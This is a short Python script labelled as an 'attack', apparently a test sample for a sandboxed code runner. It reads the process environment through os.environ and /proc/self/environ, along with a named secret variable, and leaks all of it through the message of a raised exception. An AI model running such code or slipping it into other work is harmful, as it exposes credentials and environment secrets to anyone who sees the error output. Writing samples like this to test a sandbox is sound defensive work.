# /// attack
# tries = "tells its own environment, by Python and by /proc"
# ///

import os

try:
    kernel = open("/proc/self/environ", "rb").read()
except OSError as error:
    kernel = error
raise ValueError(f"{dict(os.environ)} {kernel} {os.environ.get('NANOLM_SECRET')}")
